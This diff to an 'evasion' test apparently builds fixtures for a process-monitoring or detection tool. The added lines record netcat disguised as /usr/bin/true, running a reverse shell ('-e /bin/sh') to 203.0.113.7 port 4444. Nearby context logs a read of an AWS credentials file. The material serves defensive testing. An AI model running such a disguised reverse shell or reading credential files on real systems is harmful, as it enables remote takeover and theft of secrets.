@@ -514,6 +514,9 @@ def evasion():
     log.truth(f"{log.own}/seen.txt", "created")
     log.truth(f"{log.own}/new/inside.txt", "created")
     log.truth(f"{log.own}/never-seen.txt", "created")
+    log.exec(11, 10, "/usr/bin/true", "true")
+    log.add("truth.exec", "truth", pid=11, path="/usr/bin/true", reason="program",
+            executable="/usr/bin/nc", command="true -e /bin/sh 203.0.113.7 4444")
     log.end()
     log.script("race.sh")
     log.open(11, "/home/alex/.aws/credentials", "read")
